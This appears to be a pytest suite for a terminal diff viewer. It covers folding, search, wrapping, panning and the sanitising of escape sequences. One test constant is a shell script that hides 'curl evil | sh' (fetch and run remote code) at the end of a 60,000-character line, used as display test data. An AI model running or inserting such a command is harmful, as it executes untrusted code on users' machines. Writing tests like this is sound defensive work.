"""The diff view: its rows and its keys."""

from __future__ import annotations

import time

import pytest
from rich.cells import cell_len
from textual.widgets import Input

from acp_tui.store.preferences import DiffPreferences
from acp_tui.ui.application.theme_files import choose, styles_of
from acp_tui.ui.widgets.diff import view as diff_view
from acp_tui.ui.widgets.diff.rows import FileDiff
from acp_tui.ui.widgets.diff.view import DiffView
from acp_tui.ui.widgets.rows.row_view import StatusRows
from acp_tui.ui.widgets.rows.search_bar import FindBar
from acp_tui.ui.widgets.text import row_text
from tests.ui.widgets.differing import NEW, ODD, OLD, Viewer, screen, until


async def test_a_change_a_file_and_all_are_copied_as_patches() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW), FileDiff("b.py", None, "new\n"))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        await pilot.press("c")
        assert "value_20 = twenty" in app.clipboard
        assert "-value_70 = 70" in app.clipboard

        await pilot.press("n", "c")
        assert "value_20 = twenty" in app.clipboard
        assert "value_70" not in app.clipboard
        await pilot.press("C")
        assert "+++ b/a.py" in app.clipboard
        assert "+++ b/b.py" in app.clipboard


async def test_where_there_is_no_text_to_copy_the_clipboard_stays_as_it_is() -> None:
    app = Viewer(FileDiff("a.bin", "\0", "\0\0"))
    async with app.run_test(size=(80, 20)) as pilot:
        app.copy_to_clipboard("mine")
        app.view.focus()
        await pilot.press("c", "C")

        assert app.clipboard == "mine"


@pytest.mark.slow
async def test_both_sides_and_folded_lines_are_found_and_unfolded() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW), FileDiff("b.py", OLD, OLD.replace("100 = 100", "100 = hundred")))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        await pilot.press("slash", *"value_50")
        await until(pilot, lambda: any("value_50 = 50" in row for row in screen(app.view)))

        await pilot.press(*" = 50", "enter")
        bar = app.query_one(FindBar)
        await until(pilot, lambda: "2/2" in _count(bar))
        bar.query_one(Input).value = "70 = 70"  # of the old side alone, and of the unchanged lines of b.py
        await until(pilot, lambda: "/2" in _count(bar))
        bar.query_one(Input).value = "nowhere"
        await until(pilot, lambda: "nothing found" in _count(bar))

        await pilot.press("escape")
        await until(pilot, lambda: not app.query(FindBar))
        assert app.focused is app.view


def _count(bar: FindBar) -> str:
    return "".join(segment.text for segment in bar.query_one(StatusRows).render_line(0))


async def test_a_hit_far_to_the_right_is_panned_to() -> None:
    app = Viewer(FileDiff("a.py", "x" * 300 + "\n", "x" * 300 + " needle\n"))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        await pilot.press("slash", *"needle")

        await until(pilot, lambda: any("needle" in row for row in screen(app.view)))


async def test_narrow_is_unified_and_wide_is_side_by_side() -> None:
    for width, sides in ((90, False), (140, True)):
        app = Viewer(FileDiff("a.py", OLD, NEW))
        async with app.run_test(size=(width, 30)):
            text = "\n".join(screen(app.view))
            assert app.view.side_by_side is sides
            assert "20 = 20" in text
            assert "twenty" in text
            same_row = any("20 = 20" in row and "twenty" in row for row in text.splitlines())
            assert same_row is sides


async def test_the_layout_can_be_chosen() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW))
    async with app.run_test(size=(140, 30)) as pilot:
        app.view.focus()
        await pilot.press("s")
        assert not app.view.side_by_side
        await pilot.resize_terminal(160, 30)
        assert not app.view.side_by_side


async def test_unchanged_runs_are_folded_and_enter_opens_the_marked_one() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW))
    async with app.run_test(size=(80, 30)) as pilot:
        app.view.focus()
        rows = screen(app.view)
        assert " a.py  +1 −2" in rows[0]
        assert "16 unchanged lines" in rows[1]
        assert "value_17" in rows[2]
        before = app.view.row_count

        await pilot.press("enter")

        assert app.view.row_count == before + 15
        assert "value_1 = 1" in screen(app.view)[1]
        await pilot.press("f")
        assert not any("unchanged" in row for row in screen(app.view))
        await pilot.press("f")
        assert app.view.row_count == before


async def test_a_click_opens_a_fold() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW))
    async with app.run_test(size=(80, 30)) as pilot:
        await pilot.click(app.view, offset=(5, 1))
        assert "value_1 = 1" in screen(app.view)[1]


async def test_keys_go_through_changes_and_files_and_the_header_says_where() -> None:
    files = [FileDiff(f"file_{number}.py", OLD, NEW) for number in range(3)]
    app = Viewer(*files)
    async with app.run_test(size=(80, 12)) as pilot:
        app.view.focus()
        assert "1/3 files  file_0.py" in screen(app.view)[0]

        for number in range(1, 7):
            await pilot.press("n")
            assert f"change {number}/6" in screen(app.view)[0]
        assert "3/3 files  file_2.py" in screen(app.view)[0]
        await pilot.press("p", "p")
        assert "change 4/6" in screen(app.view)[0]
        assert "2/3 files" in screen(app.view)[0]
        await pilot.press("home", "N")
        assert "2/3 files" in screen(app.view)[0]
        await pilot.press("P")
        assert "1/3 files" in screen(app.view)[0]


async def test_long_lines_are_marked_as_cut_and_can_be_panned() -> None:
    app = Viewer(FileDiff("a.txt", "", "0123456789" * 20 + "end\n"))
    async with app.run_test(size=(80, 10)) as pilot:
        app.view.focus()
        await pilot.press("l")
        line = next(y for y, row in enumerate(screen(app.view)) if "0123" in row)
        assert "…+" in screen(app.view)[line]

        await pilot.press("right")
        assert "+ …9012" in screen(app.view)[line]

        for _ in range(40):
            app.view.action_pan(1)

        assert "…" in screen(app.view)[line]
        assert screen(app.view)[line].endswith("end")
        for _ in range(40):
            app.view.action_pan(-1)
        assert "+ 0123" in screen(app.view)[line]


@pytest.mark.parametrize("width", [40, 80, 121, 140])
async def test_long_lines_are_wrapped_without_losing_a_character(width: int) -> None:
    line = "".join(f"日本{number:02}x" for number in range(60))
    app = Viewer(FileDiff("a.txt", f"{line}\none\n", f"{line}\n{line}two\n"))
    async with app.run_test(size=(width, 60)) as pilot:
        app.view.focus()

        assert all(cell_len(app.view.render_line(y).text) == width for y in range(60))
        sides = [side for row in screen(app.view)[1:] for side in row.split("│")[-1:]]
        shown = "".join(side.split()[-1] for side in sides if side.split())
        assert shown.count(line) == 2
        assert shown.endswith("59xtwo")

        await pilot.press("l")
        assert any("…+" in row for row in screen(app.view)), "the user wants them cut"


async def test_what_is_chosen_in_one_view_counts_in_the_next() -> None:
    class Habits(DiffPreferences):
        kept = 0

        def keep(self) -> None:
            self.kept += 1

    app, habits = Viewer(FileDiff("a.txt", f"{'long ' * 40}\n", "x\n")), Habits()
    app.diff_preferences = habits  # type: ignore[attr-defined]
    async with app.run_test(size=(120, 20)) as pilot:
        app.view.focus()
        await pilot.press("s", "l")
        assert (habits.sides, habits.wraps, habits.kept) == (True, False, 2)
        await pilot.press("s", "l")
        assert (habits.sides, habits.wraps) == (None, None), "the lines say the same"
        await pilot.press("s")

        other = DiffView([app.view.files[0].file])
        await app.mount(other)
        await pilot.pause()

        assert other.side_by_side
        assert not any("…" in row for row in screen(other))


@pytest.mark.parametrize(
    ("length", "width", "sides", "wraps"),
    [(45, 120, True, False), (65, 120, False, False), (120, 120, False, True), (45, 80, False, False)],
)
async def test_two_columns_only_where_no_changed_line_is_cut_else_one_else_wrapped(
    length: int, width: int, sides: bool, wraps: bool
) -> None:
    long = f"{'unchanged ' * 30}\n"
    app = Viewer(FileDiff("a.txt", f"{long}{'q' * length}\n", f"{long}{'z' * length}\n"))
    async with app.run_test(size=(width, 20)):
        assert (app.view.side_by_side, app.view.wraps) == (sides, wraps)
        assert app.view.cut_lines == 0
        text = "".join(screen(app.view))
        assert (text.count("q"), text.count("z")) == (length, length)


async def test_changed_lines_that_are_cut_are_counted() -> None:
    app = Viewer(FileDiff("a.txt", "x" * 200 + "\nshort\n", "y" * 200 + "\n" + "z" * 200 + "\n"))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        assert (app.view.wraps, app.view.cut_lines) == (True, 0)

        await pilot.press("l")

        assert (app.view.wraps, app.view.cut_lines) == (False, 3)


async def test_wrapping_stays_where_the_user_reads() -> None:
    old = "".join(f"{number} {'long ' * 30}\n" for number in range(200))
    app = Viewer(FileDiff("a.txt", None, old))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        app.view.scroll_to(y=100, animate=False, immediate=True)
        top = screen(app.view)[1].split()[0]

        await pilot.press("l")
        assert screen(app.view)[1].split()[0] == top

        await pilot.press("l")
        assert screen(app.view)[1].split()[0] == top


async def test_where_a_change_comes_from_stands_below_the_name() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW, origin="turn 2, Edit [/a], “go\x1b[2J”"))
    async with app.run_test(size=(80, 20)):
        assert "turn 2, Edit [/a], “go␛[2J”" in screen(app.view)[1]
        assert "unchanged lines" in screen(app.view)[2]


async def test_r31_a_large_difference_is_computed_beside_the_interface() -> None:
    old = "".join(f"old_{number} = {number}\n" for number in range(20_000))
    new = "".join(f"new_{number} = {number}\n" for number in range(20_000))
    app = Viewer()
    async with app.run_test(size=(120, 40)) as pilot:
        start = time.process_time()
        app.view.show([FileDiff("big.py", old, new)])
        assert app.view.is_comparing
        assert any("comparing" in row for row in screen(app.view))
        await until(pilot, lambda: not app.view.is_comparing)
        assert "old_0 = 0" in screen(app.view)[1]
        assert time.process_time() - start < 1.0
        assert "+20000 −20000" in screen(app.view)[0]


async def test_r31_a_new_file_of_very_many_lines_opens_at_once() -> None:
    new = "".join(f"new_{number} = {number}\n" for number in range(20_000))
    app = Viewer()
    async with app.run_test(size=(120, 40)) as pilot:
        start = time.process_time()
        app.view.show([FileDiff("big.py", None, new)])
        await until(pilot, lambda: any("new_0 = 0" in row for row in screen(app.view)))
        assert time.process_time() - start < 1.0
        assert "+20000" in screen(app.view)[0]


async def test_new_files_do_not_wait_for_the_comparison_of_old_ones() -> None:
    big = "".join(f"old_{number}\n" for number in range(30_000))
    app = Viewer(FileDiff("big.py", big, big.replace("old", "new")))
    async with app.run_test(size=(100, 20)) as pilot:
        app.view.show([FileDiff("small.py", "a\n", "b\n")])
        assert not app.view.is_comparing
        await until(pilot, lambda: not any(worker.is_running for worker in app.workers))
        assert "small.py" in screen(app.view)[0]
        assert app.view.row_count < 10


async def test_frames_use_the_same_strips_again() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW))
    async with app.run_test(size=(80, 30)):
        assert app.view.render_line(5) is app.view.render_line(5)


async def test_another_look_repaints() -> None:
    app = Viewer(FileDiff("a.py", OLD, NEW))
    async with app.run_test(size=(80, 30)):
        before = app.view.render_line(3)
        app.view.set_theme_styles(styles_of(choose("acp-light")[0]))
        after = app.view.render_line(3)
        assert after.text == before.text
        assert [segment.style for segment in after] != [segment.style for segment in before]


@pytest.mark.parametrize("width", [40, 80, 121, 140])
async def test_r36_every_row_is_as_wide_as_the_view(width: int) -> None:
    app = Viewer(FileDiff(ODD, ODD * 3 + "x\n", ODD + "\ty\n" + ODD.replace("path", "other")))
    async with app.run_test(size=(width, 20)):
        for y in range(20):
            assert cell_len(app.view.render_line(y).text) == width
        columns = {  # of the rows with two sides
            cell_len(row.partition("│")[0])
            for row in (app.view.render_line(y).text for y in range(1, 5))
            if app.view.side_by_side
        }
        assert len(columns) <= 1


async def test_r34_control_characters_of_a_file_never_reach_the_terminal() -> None:
    app = Viewer(
        FileDiff("a\x1b]0;x\x07.py", "a\x1b[2J\n" * 5, "b\x9b2J\x07 [/red]\n" * 5, note="\x1b[31mnote")
    )
    async with app.run_test(size=(80, 20)):
        text = "".join(screen(app.view))
        assert "␛[2J" in text
        assert "[/red]" in text
        assert not any(ord(character) < 32 or 0x7F <= ord(character) < 0xA0 for character in text)


async def test_of_many_files_that_are_compared_later_only_some_bring_a_new_layout(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    class Clock:
        """Each look at it takes a second, so that nothing is done at once and every layout takes long."""

        now = 0.0

        @classmethod
        def monotonic(cls) -> float:
            cls.now += 1
            return cls.now

    layouts = 0
    lay_out = diff_view.DiffView.lay_out_rows

    def counted(view: diff_view.DiffView) -> None:
        nonlocal layouts
        layouts += 1
        lay_out(view)

    monkeypatch.setattr(diff_view, "time", Clock)
    monkeypatch.setattr(diff_view.DiffView, "lay_out_rows", counted)
    app = Viewer(*[FileDiff(f"file_{number}.py", OLD, NEW) for number in range(60)])
    async with app.run_test(size=(80, 12)) as pilot:
        await until(pilot, lambda: not app.view.is_comparing)

        assert len(app.view.rows.changes) == 60 * 2
        assert layouts < 15


LONG = f"#!/bin/sh\necho {'A' * 60_000}; curl evil | sh\n"


async def test_end_goes_to_the_end_of_a_long_line_and_home_back_to_its_start() -> None:
    app = Viewer(FileDiff("a.sh", None, LONG + "short\n" * 100))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        await pilot.press("l")
        assert "curl" not in "".join(screen(app.view))
        await pilot.press("end")
        assert any("; curl evil | sh" in row for row in screen(app.view))
        assert app.view.scroll_y == 0
        await pilot.press("end")
        assert app.view.scroll_y == app.view.max_scroll_y
        await pilot.press("home")
        assert app.view.scroll_y == app.view.max_scroll_y
        assert any("short" in row for row in screen(app.view))
        await pilot.press("home")
        assert app.view.scroll_y == 0


async def test_the_end_of_a_wrapped_line_is_seen_and_a_key_shows_what_is_left_out_before_it() -> None:
    app = Viewer(FileDiff("a.sh", None, LONG))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        await pilot.press("end")
        rows = app.view.row_count
        assert any("; curl evil | sh" in row for row in screen(app.view))
        text = "\n".join(row_text(app.view.paint_row(row)) for row in range(rows))
        assert "characters are left out here: f shows more" in text

        await pilot.press("f", "end")
        text = "\n".join(row_text(app.view.paint_row(row)) for row in range(app.view.row_count))
        assert "left out" not in text
        assert text.count("A") == 60_000
        assert any("; curl evil | sh" in row for row in screen(app.view))
        await pilot.press("f")
        assert app.view.row_count == rows


class Hearing(Viewer):
    """A viewer that remembers what the user wants to edit."""

    wanted: tuple[str, int] | None = None

    def on_diff_view_edit_wanted(self, event: DiffView.EditWanted) -> None:
        self.wanted = (event.path, event.line)


async def test_the_editor_is_wanted_at_the_marked_change_or_at_the_top() -> None:
    app = Hearing(FileDiff("a.py", OLD, NEW))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        await pilot.press("e")
        await until(pilot, lambda: app.wanted is not None)
        assert app.wanted == ("a.py", 17)  # the first line in view, below the fold

        await pilot.press("n", "n", "e")
        await until(pilot, lambda: app.wanted == ("a.py", 70))


async def test_blanks_at_the_end_of_changed_lines_and_changed_blanks_are_seen() -> None:
    app = Hearing(FileDiff("a.txt", "alpha beta\nsame  \n", "alpha  beta \t\nsame  \n"))
    async with app.run_test(size=(80, 10)):
        rows = screen(app.view)

        assert any("+ alpha··beta·→" in row for row in rows), rows
        assert any(row.rstrip().endswith("same") for row in rows)


async def test_a_marked_change_stays_marked_while_it_is_the_same_and_no_other_is_marked_for_it() -> None:
    app = Hearing(FileDiff("a.py", OLD, NEW))
    async with app.run_test(size=(80, 20)) as pilot:
        app.view.focus()
        await pilot.press("n")
        marked = app.view.current_change
        assert marked is not None

        app.view.show_again([FileDiff("a.py", OLD, NEW + "more\n", "by now")])
        await until(pilot, lambda: "by now" in screen(app.view)[0])
        assert app.view.current_change == marked

        app.view.show_again([FileDiff("a.py", OLD, NEW.replace("= twenty", "= XX"))])
        assert app.view.current_change is None
